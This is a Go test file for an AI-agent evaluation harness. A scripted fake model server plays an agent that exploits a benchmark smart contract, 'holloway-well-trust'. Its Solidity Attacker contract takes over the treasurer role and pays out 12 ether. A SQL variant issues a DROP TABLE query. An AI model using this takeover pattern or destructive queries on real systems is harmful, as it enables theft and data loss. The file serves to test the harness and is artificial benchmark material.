package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"

	"assay/internal/test/solctest"
)

// agentServer is an OpenAI-compatible server with a model that attacks
// holloway-well-trust in four turns. Its state is only in the conversation.
type agentServer struct {
	mu      sync.Mutex
	turns   []int // of the model before each request
	killAt  int   // request, from 1, which is answered by killing; 0 for none
	program *exec.Cmd
}

const takeOver = `
interface World { function target() external view returns (address); }
interface Trust { function changeTreasurer(address) external; function payExpense(address, uint256, string) external; }
contract Attacker {
    function () external payable {}
    function step(uint256, address world) external returns (uint256 wait) {
        Trust t = Trust(World(world).target());
        t.changeTreasurer(address(this));
        t.payExpense(address(this), 12 ether, "");
        return 0;
    }
}`

var youRE = regexp.MustCompile(`"you": "(0x[0-9a-fA-F]{40})"`)

func (s *agentServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var in struct {
		Messages []struct {
			Role    string
			Content any
		}
		Tools []struct {
			Function struct{ Name string }
		}
	}
	if err := json.NewDecoder(r.Body).Decode(&in); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	n, you := 0, ""
	for _, m := range in.Messages {
		if m.Role == "assistant" {
			n++
		}
		if text, ok := m.Content.(string); ok && m.Role == "tool" {
			if found := youRE.FindStringSubmatch(text); found != nil {
				you = found[1]
			}
		}
	}
	s.mu.Lock()
	s.turns = append(s.turns, n)
	kill := s.killAt > 0 && len(s.turns) == s.killAt
	program := s.program
	s.mu.Unlock()
	if kill {
		program.Process.Signal(syscall.SIGKILL)
		<-r.Context().Done()
		return
	}
	call := func(name string, args any) any {
		b, _ := json.Marshal(args)
		return map[string]any{"id": "x", "type": "function", "function": map[string]any{"name": name, "arguments": string(b)}}
	}
	type m = map[string]any
	calls := [][]any{
		{call("deployed", m{}), call("read", m{"path": "no-such.sol"})},
		{call("call", m{"to": "target", "function": "changeTreasurer(address)", "args": []any{you}})},
		{call("simulate", m{"calls": []any{m{"to": "target", "function": "payExpense(address,uint256,string)",
			"args": []any{you, "12e18", ""}}}})},
		{call("submit", m{"explanation": "it is open", "exploitable": true, "contract": takeOver})},
	}[min(n, 3)]
	for _, t := range in.Tools {
		if t.Function.Name == "query" { // a task on SQL
			calls = [][]any{
				{call("list", m{}), call("query", m{"sql": "SELECT 1 AS one"})},
				{call("query", m{"sql": "SELECT count(*) FROM information_schema.tables", "params": []any{}})},
				{call("query", m{"sql": "DROP TABLE nothing_of_that_name"}), call("search", m{"pattern": "SELECT"})},
				{call("submit", m{"answer": `{"explanation": "I see nothing", "exploitable": false, "situation": 0, "calls": []}`})},
			}[min(n, 3)]
		}
	}
	json.NewEncoder(w).Encode(m{"model": "m-1", "choices": []any{m{"finish_reason": "tool_calls",
		"message": m{"role": "assistant", "content": nil, "tool_calls": calls}}},
		"usage": m{"prompt_tokens": 100, "completion_tokens": 10}})
}

// An agent at an OpenAI-compatible server is killed in the middle of its
// work and continues where it was, and its attack is executed.
func TestAgentIsKilledAndGoesOn(t *testing.T) {
	t.Run("blockbench", func(t *testing.T) {
		killedAndGoesOn(t, "100 % [21, 100]", "--suite", "blockbench", "--filter", "holloway-well-trust", "--compilers",
			solctest.Dir(t))
	})
	t.Run("tenantsql", func(t *testing.T) {
		if _, err := exec.LookPath("initdb"); err != nil {
			t.Skip("no PostgreSQL")
		}
		t.Setenv("TMPDIR", "/tmp") // a socket has a short path
		killedAndGoesOn(t, "0 % [0, 79]", "--suite", "tenantsql", "--filter", "lot-finder-01", "--filter", "lot-finder-03")
	})
}

func killedAndGoesOn(t *testing.T, found string, selected ...string) {
	s := &agentServer{killAt: 3}
	srv := httptest.NewServer(s)
	defer srv.Close()
	work := t.TempDir()
	args := append([]string{"run", "--model", "openai/m", "--scaffold", "react", "--task", "exploit", "--max-connections",
		"1", "--set", "max-turns=6"}, selected...)
	first, out := program(t, work, srv.URL+"/v1", args...)
	s.mu.Lock()
	s.program = first
	s.mu.Unlock()
	if err := first.Run(); err == nil {
		t.Fatalf("the program was not killed:\n%s", out)
	}
	s.mu.Lock()
	before := len(s.turns)
	s.mu.Unlock()
	second, out := program(t, work, srv.URL+"/v1", args...)
	if err := second.Run(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	text := out.String()
	for _, want := range []string{`2 trials ended: 2 answered`, `2 judgements ended: 2 decided`, found} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	counted := map[int]int{}
	for _, n := range s.turns[before:] {
		counted[n]++
	}
	// Two trials of four turns each; the first two turns of the killed one are not asked again. The two trials
	// may be under way at the same time, so each loses at most one request.
	if total := len(s.turns); before < 3 || total > 8+2 || counted[0]+counted[1] > 4-2 {
		t.Errorf("asked with these turns before: %v, %d of them before the kill", s.turns, before)
	}
}

// The page about agents shows one run from start to tables; this test executes it
// verbatim.
func TestAgentsPage(t *testing.T) {
	dir := solctest.Dir(t)
	text, err := os.ReadFile("../../docs/agents.md")
	if err != nil {
		t.Fatal(err)
	}
	follow(t, strings.ReplaceAll(string(text), "assay run ", "assay run --compilers '"+dir+"' "))
}
